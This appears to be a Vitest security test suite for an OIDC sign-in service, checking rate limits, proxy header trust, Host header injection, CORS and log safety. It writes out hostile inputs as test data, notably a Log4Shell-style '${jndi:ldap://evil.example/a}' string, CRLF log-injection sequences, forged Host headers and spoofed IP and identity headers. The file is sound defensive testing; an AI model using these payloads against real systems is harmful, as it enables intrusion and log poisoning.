import { request } from 'node:http'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { formsOf } from '../support/browser.ts'
import { start } from '../../src/main.ts'
import { openAttackedShop, type AttackedShop } from '../support/callback.ts'
import { startShop, type Shop } from '../support/shop.ts'
import { askForCode, atChoice } from '../support/signing-in.ts'

// What headers say about who asks, from where, by which name: one house that trusts a proxy on this machine, one that trusts none.
let proxied: Shop
let direct: AttackedShop
beforeAll(async () => {
  proxied = await startShop({ env: { TRUSTED_PROXIES: '127.0.0.1' } })
  direct = await openAttackedShop()
})
afterAll(async () => {
  await proxied[Symbol.asyncDispose]()
  await direct[Symbol.asyncDispose]()
})

const guess = async (url: string, headers: Record<string, string>, client = 'ads') => {
  const authorization = `Basic ${Buffer.from(`${client}:wrong-wrong-wrong`).toString('base64')}`
  const answer = await fetch(`${url}/oidc/token`, {
    method: 'POST',
    headers: { authorization, ...headers },
    body: new URLSearchParams({ grant_type: 'client_credentials' }),
  })
  return answer.status
}

/** The answers to more guesses than one place has, each with headers of its own. */
async function guesses({ url }: Pick<Shop, 'url'>, headersOf: (n: number) => Record<string, string>, client?: string): Promise<number[]> {
  const statuses: number[] = []
  for (let n = 0; n < 24; n++) statuses.push(await guess(url, headersOf(n), client))
  return statuses
}

/** A request under another name than the one it goes to, which `fetch` would not send. */
async function asked(url: string, headers: Record<string, string>, form?: URLSearchParams): Promise<{ location: string; text: string }> {
  const named = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', ...headers }
  const more = form === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(form.toString().length) }
  return new Promise((resolve, reject) => {
    request(url, { method: form === undefined ? 'GET' : 'POST', headers: { ...named, ...more } }, (answer) => {
      text(answer).then((body) => resolve({ location: answer.headers.location ?? '', text: JSON.stringify(answer.headers) + body }), reject)
    })
      .on('error', reject)
      .end(form?.toString())
  })
}

test('F18 F19 with no proxy configured, no header says where somebody is', async () => {
  const statuses = await guesses(direct, (n) => ({
    'x-forwarded-for': `203.0.113.${n}`,
    'x-real-ip': `203.0.113.${n}`,
    forwarded: `for=203.0.113.${n}`,
    'cf-connecting-ip': `203.0.113.${n}`,
    'true-client-ip': `203.0.113.${n}`,
  }))
  expect(statuses.at(-1)).toBe(429)
})

test('F18 with one, the address that it added counts, and what was in front of it does not', async () => {
  expect((await guesses(proxied, (n) => ({ 'x-forwarded-for': `192.0.2.${n}, 203.0.113.7` }))).at(-1)).toBe(429)
  expect((await guesses(proxied, (n) => ({ 'x-forwarded-for': `203.0.113.${n + 100}` }))).at(-1)).toBe(401)
})

test('F19 who is not one of the configured proxies is believed as little as anybody, and no host is believed at all', async () => {
  await using guarded = await start({ ...direct.env, TRUSTED_PROXIES: '10.9.9.9', PUBLIC_URL: direct.url })
  expect((await guesses({ url: guarded.address }, (n) => ({ 'x-forwarded-for': `203.0.113.${n}` }), 'marketing')).at(-1)).toBe(429)
  for (const url of [guarded.address, proxied.url]) {
    const described = await asked(`${url}/oidc/.well-known/openid-configuration`, {})
    expect([url, described.text.includes('evil.example'), described.text.includes('https://')]).toEqual([url, false, false])
  }
})

test('F20 a household with more addresses than there are stars is one place', async () => {
  const at = (network: string, n: number) => ({ 'x-forwarded-for': `2001:db8:${network}:${n.toString(16)}:1:2:${n}` })
  expect((await guesses(proxied, (n) => at('7:7', n))).at(-1)).toBe(429)
  expect((await guesses(proxied, (n) => ({ 'x-forwarded-for': `2001:db8:0:${n}::1` }))).at(-1)).toBe(401)
})

test('F21 codes by mail: many places do not help against one address, and the neighbours of a shop are not shut out', async () => {
  const from = (ip: string) => ({ 'x-forwarded-for': ip })
  const ask = async (address: string, ip: string) => {
    const { browser, page } = await atChoice(proxied)
    const form = formsOf(page).find(({ action }) => action.endsWith('/login/mail'))
    const answer = await browser.open(form?.action ?? '', { method: 'POST', form: { ...form?.fields, address }, headers: from(ip) })
    return answer.status
  }
  const one: number[] = []
  for (let n = 0; n < 7; n++) one.push(await ask('person-2100@people.example', `198.51.100.${n}`))
  expect(one).toEqual([200, 200, 200, 200, 200, 429, 429])
  const neighbours: number[] = []
  for (let n = 0; n < 10; n++) neighbours.push(await ask(`person-${2110 + n}@people.example`, '198.51.100.200'))
  expect(new Set(neighbours)).toEqual(new Set([200]))
})

test('F14 who posts forged notices in number is heard no more for a while, and not written down; others are', async () => {
  const post = (ip: string) =>
    fetch(`${proxied.url}/webhooks/apple`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': ip }, body: '{}' })
  const noted = () => proxied.db.collection('audit_log').countDocuments({ type: 'provider.event_refused' })
  for (let round = 0; round < 12; round++) await Promise.all(Array.from({ length: 50 }, () => post('203.0.113.14')))
  const before = await noted()
  const late = await post('203.0.113.14')
  expect([late.status, Number(late.headers.get('retry-after')) > 0, await noted()]).toEqual([429, true, before])
  expect((await post('203.0.113.15')).status).toBe(400)
})

test('F27 no header makes somebody a client, a person or an operator', async () => {
  const query = '{ me { id } customers { totalCount } auditEvents { edges { node { type } } } }'
  const claims = {
    'x-entente-client': 'marketing',
    'apollographql-client-name': 'operator',
    'x-user-id': 'anna',
    'x-forwarded-user': 'anna',
    'x-client-cert': 'operator',
    x_authorization: 'Bearer x',
    'x-apollo-operation-name': 'x',
  }
  const ask = async (headers: Record<string, string>) => {
    const answer = await fetch(`${direct.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify({ query }),
    })
    return answer.text()
  }
  const own = (text: string) => text.replaceAll(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, '…')
  expect(own(await ask(claims))).toBe(own(await ask({})))
  expect(await (await fetch(`${direct.url}/metrics`)).text()).not.toMatch(/marketing|apollographql|x-user/)
})

test('F29 letters lead to where this house is, whatever Host the request named', async () => {
  await direct.signIn('google', { as: 'person-2200', client: 'account' })
  const way = await atChoice(direct)
  const { browser, page } = way
  const form = formsOf(page).find(({ action }) => action.endsWith('/login/mail'))
  const posted = new URLSearchParams({ ...form?.fields, address: 'person-2200@people.example' })
  const origin = new URL(direct.url).origin
  const answer = await asked(form?.action ?? '', { origin, cookie: browser.cookieHeaderFor(direct.url) }, posted)
  expect(answer.text).not.toContain('evil.example')
  const mail = await direct.mailFor('person-2200@people.example', /\d{4}[ -]?\d{4}/)
  expect(`${mail.subject} ${mail.text}`).not.toContain('evil.example')
  // The same in the letter about a device that is new, whose link signs everybody out.
  const standing = await direct.stand({ as: 'person-2200' })
  const back = await asked(standing.callback.href, { cookie: standing.browser.cookieHeaderFor(direct.url) })
  expect([back.location.startsWith(`${direct.url}/`), back.text.includes('evil.example')]).toEqual([true, false])
  const letter = await direct.mailFor('person-2200@people.example', /not-me/)
  expect([...letter.text.matchAll(/https?:\/\/[^/\s]+/g)].map(([link]) => link)).toEqual([direct.url])
})

test('F31 pages of others read nothing here: no origin that is not registered, never with cookies', async () => {
  for (const path of ['/graphql', '/account', '/login', '/health/ready']) {
    for (const origin of ['https://evil.example', 'null', 'http://127.0.0.1.evil.example', 'http://127.0.0.1', direct.url]) {
      for (const method of ['OPTIONS', 'POST', 'GET']) {
        const headers = { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization' }
        const answer = await fetch(direct.url + path, { method, headers, redirect: 'manual' })
        expect([path, origin, method, answer.headers.get('access-control-allow-origin')]).toEqual([path, origin, method, null])
      }
    }
  }
  const { accessToken } = await direct.signIn('google', { as: 'person-2250' })
  const tool = `Basic ${Buffer.from('ads:ads-demo-secret').toString('base64')}`
  const own = { '/oidc/token': tool, '/oidc/me': `Bearer ${accessToken}` }
  for (const [path, authorization] of Object.entries(own)) {
    const body = path === '/oidc/token' ? { body: new URLSearchParams({ grant_type: 'client_credentials' }) } : {}
    const answer = await fetch(direct.url + path, { method: 'POST', headers: { authorization, origin: 'https://evil.example' }, ...body })
    const allowed = ['access-control-allow-origin', 'access-control-allow-credentials'].map((name) => answer.headers.get(name))
    expect([path, answer.status, ...allowed]).toEqual([path, path === '/oidc/token' ? 400 : 200, null, null])
  }
})

test('F32 F41 what is sent makes no line of the log, and no page says what it is made of', async () => {
  const from = direct.lines.length
  const evil = 'x%0d%0a%1b[31m{"level":60}${jndi:ldap://evil.example/a}'
  const headers = { 'user-agent': '${jndi:ldap://evil.example/a} [31m', referer: 'https://evil.example/jndi' }
  const paths = [
    `/login/google/callback?error=${evil}&error_description=${evil}&state=${evil}`,
    `/oidc/auth?client_id=${evil}&state=${evil}`,
    `/login?uid=${evil}`,
    `/${evil}`,
  ]
  for (const path of paths) {
    const answer = await fetch(direct.url + path, { headers: { ...headers, accept: 'text/html' } })
    const names = [...answer.headers.keys()]
    expect([path, names.includes('x-powered-by'), names.includes('server')]).toEqual([path, false, false])
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(['no-referrer', 'same-origin']).toContain(answer.headers.get('referrer-policy'))
    expect(answer.headers.get('cross-origin-opener-policy')).toBe('same-origin')
    if (answer.headers.get('content-type')?.includes('html'))
      expect(answer.headers.get('content-security-policy')).toMatch(/^(?!.*unsafe-).*default-src 'none'/)
  }
  const written = direct.lines.slice(from)
  expect(written.length).toBeGreaterThan(paths.length)
  for (const line of written) expect([line, line.endsWith('\n') && line.indexOf('\n') === line.length - 1 && typeof JSON.parse(line)]).toEqual([line, 'object'])
  expect(written.join('')).not.toMatch(/jndi|evil/)
})

test('F34 health and metrics name no version, no host and nobody, and are a word where they are public', async () => {
  await askForCode(await atChoice(direct), 'person-2300@people.example')
  for (const path of ['/health/live', '/health/ready']) expect(await (await fetch(direct.url + path)).text()).toMatch(/^\{"status":"ok"\}$/)
  const text = await (await fetch(`${direct.url}/metrics`)).text()
  expect(text).toContain('entente_http_request_duration_seconds')
  expect(text).not.toMatch(/people\.example|mongodb:|redis:|127\.0\.0\.1/)
  expect(text).not.toMatch(/version|"v?\d+\.\d+\.\d+/)
  const labels = new Set([...text.matchAll(/route="([^"]*)"/g)].map(([, route]) => route))
  for (let n = 0; n < 20; n++) await fetch(`${direct.url}/nowhere-${n}?${n}`)
  const after = await (await fetch(`${direct.url}/metrics`)).text()
  expect(
    [...new Set([...after.matchAll(/route="([^"]*)"/g)].map(([, route]) => route))].filter(
      (route) => !labels.has(route) && route !== 'none' && route !== '/metrics',
    ),
  ).toEqual([])
})
